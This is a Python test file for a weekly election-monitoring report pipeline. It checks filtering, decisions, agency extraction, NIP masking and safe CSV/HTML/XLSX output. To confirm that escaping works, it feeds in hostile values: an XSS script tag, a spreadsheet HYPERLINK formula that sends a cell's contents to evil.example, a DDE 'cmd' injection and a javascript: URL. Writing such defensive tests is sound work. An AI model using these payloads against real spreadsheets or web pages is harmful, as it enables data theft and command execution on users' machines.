"""The weekly report on SQLite and PostgreSQL: week boundaries, filters, decisions, escaping, determinism."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from html.parser import HTMLParser

import pytest

from pipeline.accounts.nip import mask_nips
from pipeline.report import build_weekly_report, parse_week, write_report
from pipeline.report.csv_out import render_csv
from pipeline.report.html_out import render_html
from pipeline.report.weekly import agency_from_reasons
from tests.report.seed import ELECTION, Item, add_items, wib

W47 = parse_week("2024-W47")
XSS = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"klik")'


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_week_boundaries_in_wib(store):
    add_items(
        store,
        [
            Item("x:1", "Minggu malam, coblos 2!", wib(2024, 11, 24, 23, 30)),  # Sunday 16:30 UTC -> W47
            Item("x:2", "Senin dini hari, coblos 2!", wib(2024, 11, 25, 0, 10)),  # Sunday 17:10 UTC -> W48
            Item("x:3", "Senin pagi pertama", wib(2024, 11, 18, 0, 0)),  # first instant of W47
            Item("x:4", "Minggu sebelumnya", wib(2024, 11, 17, 23, 59, 59)),  # last second of W46
        ],
    )
    assert [r.post_id for r in build_weekly_report(store, week=W47).rows] == ["x:3", "x:1"]
    assert [r.post_id for r in build_weekly_report(store, week=parse_week("2024-W48")).rows] == ["x:2"]
    assert [r.post_id for r in build_weekly_report(store, week=parse_week("2024-W46")).rows] == ["x:4"]
    row = build_weekly_report(store, week=W47).rows[1]
    assert row.cells()["created_at"] == "2024-11-24T23:30:00+07:00"


def test_status_filter_and_final_decision(store):
    add_items(
        store,
        [
            Item("x:10", "dikonfirmasi", wib(2024, 11, 19, 8), status="confirmed"),
            Item("x:11", "ditolak", wib(2024, 11, 19, 9), status="rejected"),
            Item("x:12", "menunggu", wib(2024, 11, 19, 10), status="pending"),
            Item(
                "x:13",
                "diadjudikasi",
                wib(2024, 11, 19, 11),
                status="confirmed",
                decisions=[
                    ("rina", "confirmed", "ya", False),
                    ("andi", "rejected", "tidak", False),
                    ("kepala", "confirmed", "putusan akhir", True),
                    ("dewi", "rejected", "telat", False),
                ],
            ),
            Item(
                "x:14",
                "terakhir",
                wib(2024, 11, 19, 12),
                status="rejected",
                decisions=[("rina", "confirmed", "awal", False), ("andi", "rejected", "akhir", False)],
            ),
        ],
    )
    confirmed = build_weekly_report(store, week=W47)
    assert [r.post_id for r in confirmed.rows] == ["x:10", "x:13"]
    everything = build_weekly_report(store, week=W47, status="all")
    by_id = {r.post_id: r for r in everything.rows}
    assert set(by_id) == {"x:10", "x:11", "x:12", "x:13", "x:14"}
    # Adjudication wins over later decisions; else the latest decision; undecided items have none.
    assert (by_id["x:13"].decision, by_id["x:13"].reviewer, by_id["x:13"].note) == (
        "confirmed",
        "kepala",
        "putusan akhir",
    )
    assert (by_id["x:14"].decision, by_id["x:14"].reviewer, by_id["x:14"].note) == (
        "rejected",
        "andi",
        "akhir",
    )
    assert (by_id["x:12"].decision, by_id["x:12"].reviewer, by_id["x:12"].status) == ("", "", "pending")
    assert everything.totals["decision"] == (("confirmed", 2), ("rejected", 2), ("(belum diputus)", 1))
    with pytest.raises(ValueError):
        build_weekly_report(store, week=W47, status="pending")


def test_election_filter_and_agency_sources(store):
    add_items(
        store,
        [
            Item("x:20", "terdaftar", wib(2024, 11, 20, 8), handle="terdaftar"),
            Item(
                "x:21",
                "dari alasan",
                wib(2024, 11, 20, 9),
                handle="bio_only",
                agency=None,
                region=None,
                reasons=["bio: self-statement 'ASN di Dinkes Kab. Sukamaju'"],
            ),
            Item(
                "x:22",
                "tanpa instansi",
                wib(2024, 11, 20, 10),
                handle="anon",
                agency=None,
                region=None,
                nip_masked=None,
            ),
            Item("x:23", "pemilu lain", wib(2024, 11, 20, 11), handle="lain", election="pilgub-x-2024"),
        ],
    )
    report = build_weekly_report(store, week=W47, election_id=ELECTION, default_region="Kabupaten Sukamaju")
    by_id = {r.post_id: r for r in report.rows}
    assert set(by_id) == {"x:20", "x:21", "x:22"}
    assert by_id["x:20"].agency == "Dinas Kesehatan Kab. Sukamaju"
    assert by_id["x:20"].nip_masked == "19860926 ****** * ***"
    assert by_id["x:21"].agency.startswith("Dinkes Kab. Sukamaju")
    assert by_id["x:21"].region == "Kabupaten Sukamaju"  # from the election config
    assert (by_id["x:22"].agency, by_id["x:22"].nip_masked) == ("", "")
    assert dict(report.totals["agency"])["(tidak diketahui)"] == 1
    assert len(build_weekly_report(store, week=W47).rows) == 4


def test_trend_counts_the_week_and_seven_before(store):
    add_items(
        store,
        [
            Item("x:30", "a", wib(2024, 11, 20, 8)),
            Item("x:31", "b", wib(2024, 11, 21, 8)),
            Item("x:32", "c", wib(2024, 10, 1, 8)),  # W40: the oldest week shown
            Item("x:33", "d", wib(2024, 9, 24, 8)),  # W39: outside the 8 weeks
            Item("x:34", "e", wib(2024, 11, 12, 8), status="pending"),  # not confirmed
        ],
    )
    trend = build_weekly_report(store, week=W47).trend
    assert [w.label for w, _ in trend][0] == "2024-W40" and len(trend) == 8
    assert dict((w.label, n) for w, n in trend) == {
        "2024-W40": 1,
        "2024-W41": 0,
        "2024-W42": 0,
        "2024-W43": 0,
        "2024-W44": 0,
        "2024-W45": 0,
        "2024-W46": 0,
        "2024-W47": 2,
    }
    assert (
        dict((w.label, n) for w, n in build_weekly_report(store, week=W47, status="all").trend)["2024-W46"]
        == 1
    )


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str | None]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, k, v) for k, v in attrs)


def test_hostile_text_is_escaped_and_neutralised(store, tmp_path):
    from openpyxl import load_workbook

    add_items(
        store,
        [
            Item("x:40", XSS, wib(2024, 11, 20, 8), agency="=cmd|' /C calc'!A0"),
            Item("x:41", FORMULA, wib(2024, 11, 20, 9), handle="@formula", url="javascript:alert(2)"),
            Item("x:42", "+62 812 coblos\r\nbaris dua", wib(2024, 11, 20, 10), handle="plus"),
        ],
    )
    written = write_report(build_weekly_report(store, week=W47), tmp_path / "out")
    html = (tmp_path / "out" / "weekly-2024-W47.html").read_text("utf-8")
    assert "<script" not in html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert 'href="javascript' not in html.lower()
    assert "javascript:alert(2)" in html  # shown as text, not as a link

    rows = _csv_rows((tmp_path / "out" / "weekly-2024-W47.csv").read_bytes())
    by_id = {r["post_id"]: r for r in rows}
    assert by_id["x:40"]["text"] == XSS
    assert by_id["x:40"]["agency"] == "'=cmd|' /C calc'!A0"
    assert by_id["x:41"]["text"] == "'" + FORMULA
    assert by_id["x:41"]["account_handle"] == "'@formula"
    assert by_id["x:42"]["text"] == "'+62 812 coblos\nbaris dua"
    assert b"\r" not in (tmp_path / "out" / "weekly-2024-W47.csv").read_bytes()

    wb = load_workbook(tmp_path / "out" / "weekly-2024-W47.xlsx")
    assert wb.sheetnames[:2] == ["Ringkasan", "Semua item"]
    items = wb["Semua item"]
    header = [c.value for c in items[1]]
    text_col = header.index("text")
    texts = {items.cell(r, 1).value: items.cell(r, text_col + 1) for r in range(2, items.max_row + 1)}
    assert texts["x:41"].value == "'" + FORMULA and texts["x:41"].data_type == "s"
    assert texts["x:40"].value == XSS
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
    assert written.manifest["counts"]["items"] == 3


def test_html_is_self_contained(store, tmp_path):
    add_items(
        store,
        [
            Item("x:50", "Ayo coblos nomor 2", wib(2024, 11, 20, 8)),
            Item("x:51", "Dukung Pak Hendra", wib(2024, 11, 21, 8), handle="siti"),
        ],
    )
    report = build_weekly_report(store, week=W47)
    html = render_html(report).decode("utf-8")
    parser = _Links()
    parser.feed(html)
    assert not {"script", "link", "iframe", "object", "embed", "img", "form"} & set(parser.tags)
    assert "svg" in parser.tags and "rect" in parser.tags
    post_urls = {r.url for r in report.rows}
    for tag, key, value in parser.attrs:
        assert key != "src", f"<{tag} src={value!r}>"
        if key == "href":
            assert tag == "a" and value in post_urls
        assert not key.startswith("on")
    assert "@import" not in html and "url(" not in html
    csp = [v for t, k, v in parser.attrs if t == "meta" and k == "content" and v and "default-src" in v]
    assert csp and "default-src 'none'" in csp[0] and "script-src" not in csp[0]


def test_deterministic_bytes_and_manifest(store, tmp_path):
    add_items(
        store, [Item(f"x:{60 + i}", f"teks {i} {XSS}", wib(2024, 11, 18 + i % 7, 8 + i)) for i in range(9)]
    )
    one = write_report(build_weekly_report(store, week=W47), tmp_path / "a")
    two = write_report(build_weekly_report(store, week=W47), tmp_path / "b")
    for name in ("weekly-2024-W47.csv", "weekly-2024-W47.html", "weekly-2024-W47.xlsx"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name
    rows = _csv_rows((tmp_path / "a" / "weekly-2024-W47.csv").read_bytes())
    assert [r["created_at"] for r in rows] == sorted(r["created_at"] for r in rows)
    for written in (one, two):
        manifest = json.loads((written.directory / "manifest.json").read_text("utf-8"))
        assert manifest["counts"]["items"] == 9 and manifest["week"] == "2024-W47"
        listed = {f["name"]: f for f in manifest["files"]}
        assert set(listed) == {
            "weekly-2024-W47.csv",
            "weekly-2024-W47.xlsx",
            "weekly-2024-W47.html",
            "weekly-2024-W47-interactions.csv",
        }
        for name, entry in listed.items():
            data = (written.directory / name).read_bytes()
            assert entry["sha256"] == hashlib.sha256(data).hexdigest() and entry["bytes"] == len(data)


def test_empty_week_says_so(store, tmp_path):
    add_items(store, [Item("x:70", "minggu lalu", wib(2024, 11, 12, 8))])
    report = build_weekly_report(store, week=W47)
    assert report.is_empty
    written = write_report(report, tmp_path / "empty")
    html = (tmp_path / "empty" / "weekly-2024-W47.html").read_text("utf-8")
    assert 'id="empty-week"' in html and "Tidak ada item terkonfirmasi" in html
    assert _csv_rows((tmp_path / "empty" / "weekly-2024-W47.csv").read_bytes()) == []
    assert written.manifest["empty"] is True and written.manifest["counts"]["items"] == 0
    assert written.manifest["counts"]["trend"]["2024-W46"] == 1


def test_failed_render_writes_nothing(store, tmp_path, monkeypatch):
    import pipeline.report.output as output

    add_items(store, [Item("x:80", "teks", wib(2024, 11, 20, 8))])
    report = build_weekly_report(store, week=W47)

    def boom(_report):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(output, "render_html", boom)
    with pytest.raises(RuntimeError):
        write_report(report, tmp_path / "out")
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_nip_like_numbers_in_text_are_masked(store):
    add_items(store, [Item("x:90", "NIP saya 198609262015031002 ya", wib(2024, 11, 20, 8))])
    row = build_weekly_report(store, week=W47).rows[0]
    assert "198609262015031002" not in row.text and "19860926 ****** * ***" in row.text
    assert "198609262015031002" not in render_csv(build_weekly_report(store, week=W47)).decode("utf-8")


def test_helpers():
    assert mask_nips("id 1986 0926 x") == "id 1986 0926 x"
    assert mask_nips("19860926 201503 1 002") == "19860926 ****** * ***"
    assert mask_nips("NI PPPK 19900101-202421-2-005.") == "NI PPPK 19900101 ****** * ***."
    assert mask_nips("1234567890123456789") == "1234567890123456789"  # a 19-digit post id is not a NIP
    assert agency_from_reasons(["agency: BPS Kota Y"]) == "BPS Kota Y"
    assert agency_from_reasons(["+3.0 self_status [strong]: asn", "registry: x/@budi_s (Dinkes Kab. X)"]) == (
        "Dinkes Kab. X"
    )
    assert agency_from_reasons(
        ["+1.5 state_school [medium]: sdn 2", "+2.8 agency_central [medium]: kemenag, bps"]
    ) == ("kemenag")
    assert agency_from_reasons(["-2.0 honorer [strong]: honorer"]) == ""
    assert agency_from_reasons(["registry match", 3, None]) == ""


def test_agency_names_come_from_the_gazetteer():
    from pipeline.accounts.lexicon import agency_terms

    terms = agency_terms()
    assert {"dinkes", "puskesmas", "kemenag", "sdn", "satpol pp"} <= set(terms)
    assert "tni" not in terms and "polri" not in terms  # security forces are not ASN agencies
    assert len(terms[0]) >= len(terms[-1])  # longest first, so "dinas kesehatan" wins over "dinas"
    assert agency_from_reasons(["bio: staf Puskesmas Cibeureum, kab. X"]) == "Puskesmas Cibeureum"
    assert agency_from_reasons(["bio: kerja di satpol_pp kota Y; hobi mancing"]) == "satpol_pp kota Y"
    assert agency_from_reasons(["bio: guru les privat"]) == ""
